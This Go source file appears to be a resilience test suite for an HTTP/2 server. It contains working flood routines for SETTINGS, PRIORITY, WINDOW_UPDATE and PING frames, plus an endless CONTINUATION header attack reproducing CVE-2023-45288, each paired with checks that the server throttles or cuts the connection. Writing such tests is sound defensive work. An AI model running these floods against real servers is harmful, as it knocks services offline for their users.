package main

import (
	"context"

	"golang.org/x/net/http2"
)

// floodHTTP2 floods n connections of HTTP/2 with what frame writes, one frame a call.
func floodHTTP2(n int, frame func(c *h2, i int) error) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		a.each(n, func(int) {
			c, err := a.http2(ctx)
			if err != nil {
				a.failed(ctx, err)
				return
			}
			for i := 0; i < 200e6 && ctx.Err() == nil; i++ {
				if err := frame(c, i); err != nil {
					return
				}
				if i%1000 == 999 {
					a.count("units", 1000)
				}
			}
		})
		return nil
	}
}

// framesOfHTTP2 checks how many frames the server took of connections.
func framesOfHTTP2(connections int) func(*result) {
	return func(r *result) {
		const perSecond, burst = 5000, 20_000 // package http2limit
		const smallest = 9                    // bytes of a frame
		r.most("frames", r.count("units"), float64(connections)*(burst+perSecond*(r.Seconds+1)+littleInFlight/smallest))
	}
}

// floodContinuation writes a header that never ends (CVE-2023-45288).
func floodContinuation(ctx context.Context, a *attacker) error {
	a.each(2, func(int) {
		c, err := a.http2(ctx)
		if err != nil {
			a.failed(ctx, err)
			return
		}
		if err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1}); err != nil {
			return
		}
		for ctx.Err() == nil {
			c.block.Reset()
			if err := c.WriteContinuation(1, false, []byte("\x00\x01x\x01y")); err != nil {
				a.cut(ctx)
				return
			}
			a.count("units", 1)
		}
	})
	return nil
}

var http2Frames = []*attack{
	{
		outside: true, without: noRates, broken: "frames",
		name: "http2-settings", metric: "parley_frames_slowed_total", what: "a connection of HTTP/2 writes SETTINGS",
		do: floodHTTP2(1, func(c *h2, i int) error {
			return c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i)})
		}),
		check: framesOfHTTP2(1), memory: 32 << 20,
	},
	{
		outside: true, without: noRates, broken: "frames",
		name: "http2-priority", metric: "parley_frames_slowed_total", what: "two of them write PRIORITY",
		do: floodHTTP2(2, func(c *h2, i int) error {
			return c.WritePriority(uint32(1+2*(i%1000)), http2.PriorityParam{StreamDep: 0, Weight: uint8(i)})
		}),
		check: framesOfHTTP2(2), memory: 32 << 20,
	},
	{
		outside: true, without: noRates, broken: "frames",
		name: "http2-window", metric: "parley_frames_slowed_total", what: "a connection writes WINDOW_UPDATE",
		do: floodHTTP2(1, func(c *h2, i int) error {
			return c.WriteWindowUpdate(0, 1)
		}),
		check: framesOfHTTP2(1), memory: 32 << 20,
	},
	{
		outside: true,
		name:    "http2-ping", metric: "parley_frames_slowed_total", what: "a connection writes PING and reads the answers",
		do: floodHTTP2(1, func(c *h2, i int) error {
			return c.WritePing(false, [8]byte{byte(i)})
		}),
		check: framesOfHTTP2(1), memory: 32 << 20,
	},
	{
		outside: true,
		name:    "http2-continuation", what: "two connections write headers that never end",
		do: floodContinuation, whole: true,
		check: func(r *result) { r.least("cut", r.count("cut"), 2) }, memory: 32 << 20,
	},
}
